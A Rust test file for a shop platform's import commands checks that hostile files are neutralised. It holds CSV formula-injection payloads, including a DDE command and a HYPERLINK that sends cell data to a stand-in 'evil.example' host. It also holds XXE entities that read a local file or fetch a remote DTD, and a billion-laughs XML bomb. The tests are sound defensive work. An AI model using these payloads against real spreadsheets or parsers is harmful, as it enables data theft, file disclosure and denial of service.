//! Files that are made to hurt whoever imports or opens them: formulas in a CSV, entities in an export.

use super::*;
use crate::platform::{Shop, rustok};
use rustok_test_support::{Finished, Lateness, both_databases};
use serde_json::json;
use std::time::{Duration, Instant};

/// What a spreadsheet would run.
const FORMULAS: [&str; 5] = [
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1)",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

async fn import(shop: &Shop, kind: &str, name: &str, content: &str) -> Finished {
    let path = shop.server.command().folder().join(name);
    std::fs::write(&path, content).unwrap();
    let file = path.to_str().unwrap();
    shop.server
        .run(&["import", kind, file, "--tenant", shop.slug, "--json"])
        .await
}

/// Ten levels of ten: ten thousand million laughs.
fn billion_laughs() -> String {
    let entities: Vec<_> = (1..10)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    format!(
        "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY l0 \"lol\">{}]><rss><channel><title>&l9;</title></channel></rss>",
        entities.concat()
    )
}

both_databases! {
    /// They are text like any other: stored and shown as they came, in JSON, where nothing runs them.
    async fn formulas_of_a_csv_are_text(db) {
        let shop = Shop::start(rustok(db.url())).await;
        let mut csv = "Handle,Title,Vendor,Variant SKU,Variant Price\n".to_owned();
        for (number, formula) in FORMULAS.iter().enumerate() {
            let quoted = format!("\"{}\"", formula.replace('"', "\"\""));
            csv.push_str(&format!("formula-{number},{quoted},{quoted},{quoted},1.00\n"));
        }
        // A price is never worked out: its product has none, and is a draft.
        csv.push_str("worked-out,Worked out,,W,=1+1\n");
        let finished = import(&shop, "shopify", "formulas.csv", &csv).await;
        let report: Value = serde_json::from_str(&finished.stdout).unwrap();
        assert_eq!((&report["created"], report["errors"].as_array().unwrap().len()), (&json!(FORMULAS.len() + 1), 1), "{report:#}");
        let list = shop.admin(Method::GET, "/products?limit=100").send().await.unwrap();
        let list: Value = list.json().await.unwrap();
        let (unpriced, priced): (Vec<_>, Vec<_>) =
            list["items"].as_array().unwrap().iter().partition(|item| item["title"] == "Worked out");
        let is_priced = !unpriced[0]["variants"][0]["price"].is_null();
        assert_eq!((unpriced.len(), &unpriced[0]["status"], is_priced), (1, &json!("draft"), false));
        let mut shown: Vec<_> = priced.iter().map(|item| {
            let texts = [&item["title"], &item["vendor"], &item["variants"][0]["sku"]].map(|text| text.as_str().unwrap());
            assert_eq!([texts[0]; 3], texts);
            texts[0]
        }).collect();
        let mut expected = FORMULAS.to_vec();
        shown.sort_unstable();
        expected.sort_unstable();
        assert_eq!(shown, expected);
    }

    async fn entities_of_an_export_are_neither_fetched_nor_expanded(db) {
        let shop = Shop::start(rustok(db.url())).await;
        let secret = shop.server.command().folder().join("secret.txt");
        std::fs::write(&secret, "canary-of-a-file").unwrap();
        let item = "<item><title>&x;</title><wp:post_id>1</wp:post_id><wp:post_type>post</wp:post_type>\
                    <wp:status>publish</wp:status></item>";
        for (name, declared) in [
            ("file.xml", format!("<!ENTITY x SYSTEM \"file://{}\">", secret.display())),
            ("parameter.xml", "<!ENTITY % p SYSTEM \"http://127.0.0.1:9/evil.dtd\"> %p; <!ENTITY x \"x\">".to_owned()),
            ("internal.xml", "<!ENTITY x \"expanded\">".to_owned()),
        ] {
            let export = format!(
                "<?xml version=\"1.0\"?><!DOCTYPE rss [{declared}]><rss xmlns:wp=\"http://wordpress.org/export/1.2/\">\
                 <channel><wp:wxr_version>1.2</wp:wxr_version>{item}</channel></rss>"
            );
            let finished = import(&shop, "wordpress", name, &export).await;
            let reported = format!("{finished:?}");
            assert!(finished.code == Some(1) && !reported.contains("canary-of-a-file"), "{reported}");
            assert_eq!(serde_json::from_str::<Value>(&finished.stdout).unwrap()["created"], 0, "{reported}");
        }
        let lateness = Lateness::watch_process(shop.server.pid());
        let started = Instant::now();
        let finished = import(&shop, "wordpress", "laughs.xml", &billion_laughs()).await;
        assert_eq!(finished.code, Some(1), "{finished:?}");
        // Expanded, it would be 30 GB.
        assert!(started.elapsed() < Duration::from_secs(20) + lateness.since(started), "{:?}", started.elapsed());
        let nodes = shop.admin(Method::GET, "/nodes").send().await.unwrap();
        assert_eq!(nodes.json::<Value>().await.unwrap()["items"], json!([]));
    }
}
